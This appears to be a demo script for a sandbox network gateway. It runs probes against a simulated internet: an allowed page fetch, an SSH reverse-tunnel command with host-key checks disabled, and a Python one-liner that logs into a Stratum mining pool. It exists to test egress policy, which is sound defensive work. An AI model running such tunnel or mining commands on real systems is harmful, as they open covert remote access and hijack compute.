"""Demo: ``python -m corral.bench.simnet`` (as root).

Starts the simulated internet and a gateway, lets a stand-in sandbox (a namespace and an
unprivileged uid) fetch an allowed page, try a reverse SSH tunnel and a mining pool, and
prints every event the gateway emitted as JSON lines. Everything is removed at the end.
"""

from __future__ import annotations

import asyncio
import json
import shutil
import sys
from pathlib import Path

from corral.bench.simnet import SimNet
from corral.events import MemorySink
from corral.gateway import Gateway
from corral.policy import NetworkPolicy

_STRATUM = (
    "import socket,sys; s=socket.create_connection((sys.argv[1],3333),timeout=5); "
    "s.sendall(b'{\"id\":1,\"method\":\"login\",\"params\":{}}\\n'); s.recv(99)"
)


async def _run(netns: str, uid: int, *cmd: str) -> int:
    proc = await asyncio.create_subprocess_exec(
        "ip", "netns", "exec", netns, "setpriv", f"--reuid={uid}", f"--regid={uid}",
        "--clear-groups", *cmd,
        stdout=asyncio.subprocess.DEVNULL, stderr=asyncio.subprocess.DEVNULL,
    )
    try:
        return await asyncio.wait_for(proc.wait(), 30)
    except TimeoutError:
        proc.kill()
        return await proc.wait()


async def demo() -> None:
    sink = MemorySink()
    async with SimNet() as net, Gateway(resolver=net.resolver(), pool_size=1) as gateway:
        policy = NetworkPolicy.model_validate(
            {"mode": "gateway", "allow": [{"domain": "example.sim.test"}]}
        )
        attachment = await gateway.attach("demo", "episode-1", policy, sink, lambda: 1)
        name = Path(attachment.netns_path).name
        etc = Path("/etc/netns") / name
        made_root = not etc.parent.exists()
        etc.mkdir(parents=True)
        try:
            (etc / "resolv.conf").write_text(attachment.resolv_conf)
            (etc / "hosts").write_text(attachment.hosts)
            await _run(name, 2_099_000_099, "curl", "-sS", "-m", "5", "--cacert", net.ca_pem,
                       "https://example.sim.test/")
            await _run(name, 65534, "ssh", "-o", "BatchMode=yes", "-o", "ConnectTimeout=5",
                       "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null",
                       "-N", "-R", "9000:127.0.0.1:22", f"agent@{net.ip('ssh')}")
            await _run(name, 2_099_000_099, "/usr/bin/python3", "-c", _STRATUM, net.ip("pool"))
            await asyncio.sleep(0.3)
        finally:
            shutil.rmtree(etc, ignore_errors=True)
            if made_root:
                etc.parent.rmdir()
            await attachment.close()
        for event in sink.events:
            sys.stdout.write(json.dumps(event.to_dict(), default=str) + "\n")
        sys.stdout.write(json.dumps({"bytes_received_by_test_hosts": {
            host: net.received(host) for host in net.hosts}}) + "\n")


if __name__ == "__main__":
    asyncio.run(demo())
